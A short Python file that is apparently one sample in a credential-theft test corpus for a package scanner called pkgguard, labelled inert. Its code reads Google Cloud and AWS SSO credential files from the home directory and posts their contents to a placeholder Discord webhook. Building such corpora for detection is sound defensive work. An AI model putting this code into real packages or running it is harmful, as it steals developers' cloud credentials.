# pkgguard corpus 162 (credentials), modelled on [taxonomy]; inert, never run.
import glob
import os
import requests

home = os.path.expanduser("~")
paths = glob.glob(os.path.join(home, ".config", "gcloud", "legacy_credentials", "*", "adc.json"))
paths += glob.glob(os.path.join(home, ".aws", "sso", "cache", "*.json"))
blob = {p: open(p).read() for p in paths}
requests.post("https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
              json={"content": str(blob)[:1900]})
